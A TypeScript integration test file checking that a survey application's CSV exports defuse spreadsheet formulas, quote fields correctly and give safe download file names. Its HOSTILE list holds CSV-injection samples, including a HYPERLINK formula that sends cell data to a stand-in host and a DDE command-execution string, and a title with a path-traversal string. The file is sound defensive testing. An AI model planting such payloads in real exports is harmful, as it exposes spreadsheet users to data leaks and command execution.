// Issue 7 catalogue — CSV exports. Cells (and headers) that a spreadsheet would run as a formula are
// neutralised with a leading ', quotes and line breaks are RFC 4180-quoted, and parsing the file back
// gives every value. The CSV writer itself is unit-tested in test/unit/csv.test.ts ("quotes what needs
// quoting and defuses formulas") and by the exports helper's own tests; here the real downloads are
// read end to end: the round's links, the import templates, and the ledger, memo, invitation and
// response exports. Also: hostile titles give safe download names.
import { env } from 'cloudflare:workers';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import type { FormDefinition } from '../../schema/form-definition';
import { TEMPLATES } from '../../schema/form-templates';
import { campaignCounters, campaigns, forms, formVersions, invitations } from '../../schema/survey-tables';
import { enterprises } from '../../schema/tables';
import { parseCsv } from '../../worker/lib/csv';
import { newId } from '../../worker/lib/tokens';
import { linkToken, tokenHash } from '../../worker/surveys/link-token';
import { call, db, makeEnterprise, makeProgramme, postForm, signedIn } from '../fixtures';
import { memoForm, pairedOfficer, postMemo, problemRow, theProgramme } from '../fixtures/memos';
import { makePublishedForm, open, VALID } from '../integration/rounds.fixtures';

/** What spreadsheets run (OWASP "CSV injection"), and what breaks naive CSV. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  '他说"好"',
  '第一行\r\n第二行',
  'a,b',
  "=cmd|' /C calc'!A0",
];
const NAUGHTY_TITLE = 'a"b\r\n../../etc/passwd\\x';

/** A file as a spreadsheet gets it: UTF-8 BOM, then RFC 4180 records. */
async function readCsv(res: Response): Promise<string[][]> {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/i);
  // Read the bytes: Response.text() would drop the BOM that Excel needs to see.
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes.slice(3))).map((r) => r.cells);
}

/** No cell of the file may start as a formula unless defused with a leading '. */
function assertDefused(rows: string[][]) {
  for (const row of rows) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
}

/** The value as typed: the defusing ' taken off again. */
const original = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

/** The saved name a browser takes from Content-Disposition (filename* wins, RFC 6266 §4.3). */
function savedName(res: Response): string {
  const header = res.headers.get('content-disposition') ?? '';
  expect(header).toMatch(/^attachment;/);
  expect(header).not.toMatch(/[\r\n]/);
  const star = /filename\*=UTF-8''([^;]+)/.exec(header)?.[1];
  expect(star, header).toBeTruthy();
  // The ASCII fallback is a plain quoted token.
  expect(/filename="([^"\\]*)"/.test(header), header).toBe(true);
  return decodeURIComponent(star as string);
}

function assertSafeName(name: string) {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be in a file name
  expect(name, name).not.toMatch(/[/\\"\u0000-\u001f]/);
  expect(name.startsWith('.'), name).toBe(false);
}

let admin: string;
beforeAll(async () => {
  admin = (await signedIn('admin')).cookie;
});

/**
 * A round over `names.length` new enterprises named `names`, in a programme of its own: round names are
 * unique per programme (issue 17), and several tests here call theirs NAUGHTY_TITLE.
 */
async function hostileRound(names: string[], definition: FormDefinition = TEMPLATES.satisfaction.definition, roundName = '批次') {
  const programme = await makeProgramme();
  const versionId = await makePublishedForm(definition);
  const id = newId();
  const now = Date.now();
  await db()
    .insert(campaigns)
    .values({
      id,
      programmeId: programme.id,
      formVersionId: versionId,
      name: roundName,
      opensAt: now - 3600_000,
      closesAt: now + 86400_000,
      sampling: '{"mode":"all","stratify":"none"}',
      seed: 's',
      createdAt: now,
    });
  await db().insert(campaignCounters).values({ campaignId: id, invited: names.length });
  const links = [];
  for (const [i, name] of names.entries()) {
    const e = await makeEnterprise({
      name,
      contactName: HOSTILE[(i + 1) % HOSTILE.length],
      contactPhone: HOSTILE[(i + 2) % HOSTILE.length],
    });
    const invitationId = newId();
    const token = await linkToken(env.LINK_SECRET, invitationId);
    await db()
      .insert(invitations)
      .values({ id: invitationId, campaignId: id, enterpriseId: e.id, tokenHash: await tokenHash(token), createdAt: now });
    links.push({ token, enterpriseId: e.id, name });
  }
  return { id, versionId, links };
}

describe('the links download', () => {
  it('defuses every formula, keeps quotes and line breaks, and reads back to the stored values', async () => {
    const round = await hostileRound(HOSTILE);
    const rows = await readCsv(await call(`/admin/rounds/${round.id}/links.csv`, { cookie: admin }));
    assertDefused(rows);
    const [header, ...body] = rows;
    expect(header).toEqual(['企业名称', '统一社会信用代码', '联系人', '联系电话', '链接']);
    expect(body).toHaveLength(HOSTILE.length);
    const stored = await db().select().from(enterprises).all();
    for (const row of body) {
      const e = stored.find((s) => s.name === original(row[0] as string));
      expect(e, row[0]).toBeTruthy();
      expect(original(row[2] as string)).toBe(e?.contactName);
      expect(original(row[3] as string)).toBe(e?.contactPhone);
      expect(row[4]).toMatch(/^https:\/\/bangfu\.test\/s\/[A-Za-z0-9_-]{24}$/);
    }
    expect(body.map((r) => original(r[0] as string)).sort()).toEqual([...HOSTILE].sort());
  });

  it('names the file safely whatever the round is called', async () => {
    const round = await hostileRound(['企业甲'], undefined, NAUGHTY_TITLE);
    for (const path of [`/admin/rounds/${round.id}/links.csv`, `/admin/rounds/${round.id}/links.csv?pending=1`]) {
      const res = await call(path, { cookie: admin });
      const name = savedName(res);
      assertSafeName(name);
      expect(name).toContain('etc_passwd');
      expect(name.endsWith('.csv')).toBe(true);
    }
  });
});

describe('the import templates', () => {
  it('are defused, RFC 4180 files that read back to their header and example row', async () => {
    for (const kind of ['enterprises', 'assignments', 'ledger']) {
      const res = await call(`/admin/import/template/${kind}.csv`, { cookie: admin });
      const rows = await readCsv(res);
      assertDefused(rows);
      expect(rows).toHaveLength(2);
      expect(rows[0]?.length).toBe(rows[1]?.length);
      assertSafeName(savedName(res));
    }
  });
});

describe('the ledger, memo, invitation and response exports', () => {
  it('defuse hostile problem text and enterprise names in the ledger and memo files, and read back', async () => {
    const officer = await pairedOfficer();
    await db().update(enterprises).set({ name: HOSTILE[6] }).where(eq(enterprises.id, officer.enterprise.id));
    const rowsIn = HOSTILE.slice(0, 8).map((description) => problemRow({ description }));
    const form = memoForm(officer.enterprise.id, rowsIn, { businessSituation: HOSTILE[0] as string, nextSteps: HOSTILE[8] as string });
    expect((await postMemo(officer.cookie, form)).status).toBe(303);
    const programme = await theProgramme();
    const ledger = await readCsv(await call(`/admin/exports/problems.csv?programme=${programme.id}`, { cookie: admin }));
    assertDefused(ledger);
    const described = ledger.filter((r) => original(r[1] as string) === HOSTILE[6]).map((r) => original(r[3] as string));
    // descriptions are stored trimmed: compare with what the memo route kept
    expect(described.sort()).toEqual(
      HOSTILE.slice(0, 8)
        .map((d) => d.trim())
        .sort(),
    );
    const memoFile = await readCsv(await call(`/admin/exports/memos.csv?programme=${programme.id}`, { cookie: admin }));
    assertDefused(memoFile);
    const flat = memoFile.flat().map(original);
    expect(flat).toContain(HOSTILE[0]);
    expect(flat).toContain(HOSTILE[8]);
  });

  it('defuse hostile question titles in the header and hostile answers in the rows of the response file', async () => {
    const base = TEMPLATES.satisfaction.definition;
    const definition = {
      ...base,
      pages: base.pages.map((p) => ({
        ...p,
        questions: p.questions.map((q) => (q.key === 'suggestions' ? { ...q, title: { zh: HOSTILE[6], en: HOSTILE[6] } } : q)),
      })),
    } as FormDefinition;
    const round = await hostileRound([HOSTILE[0] as string, HOSTILE[3] as string], definition, NAUGHTY_TITLE);
    for (const [i, link] of round.links.entries()) {
      const { cookie } = await open(link.token);
      const res = await postForm(`/s?round=${round.id}`, { ...VALID, suggestions: HOSTILE[i + 7] as string }, { cookie });
      expect(res.status).toBe(200);
    }
    const res = await call(`/admin/exports/responses.csv?campaign=${round.id}`, { cookie: admin });
    const rows = await readCsv(res);
    assertDefused(rows);
    const [header, ...body] = rows;
    expect(header?.map(original)).toContain(HOSTILE[6]);
    expect(body).toHaveLength(2);
    const cells = body.flat().map(original);
    expect(cells).toContain(HOSTILE[7]);
    expect(cells).toContain(HOSTILE[8]);
    expect(cells).toContain(HOSTILE[0]);
    const invitationsFile = await readCsv(await call(`/admin/exports/invitations.csv?campaign=${round.id}`, { cookie: admin }));
    assertDefused(invitationsFile);
    expect(invitationsFile.flat().map(original)).toContain(HOSTILE[3]);
  });

  it('gives the response and invitation files a safe name whatever the round is called', async () => {
    const round = await hostileRound(['企业乙'], undefined, NAUGHTY_TITLE);
    for (const file of ['responses', 'invitations']) {
      const res = await call(`/admin/exports/${file}.csv?campaign=${round.id}`, { cookie: admin });
      expect(res.status).toBe(200);
      assertSafeName(savedName(res));
    }
  });

  it('gives a form exported as JSON a safe file name', async () => {
    const versionId = await makePublishedForm();
    const version = await db().select().from(formVersions).where(eq(formVersions.id, versionId)).get();
    await db()
      .update(forms)
      .set({ name: NAUGHTY_TITLE })
      .where(eq(forms.id, version?.formId as string));
    const res = await call(`/admin/forms/${version?.formId}/versions/1/export`, { cookie: admin });
    expect(res.status).toBe(200);
    const name = savedName(res);
    assertSafeName(name);
    expect(name.endsWith('-v1.json')).toBe(true);
  });
});
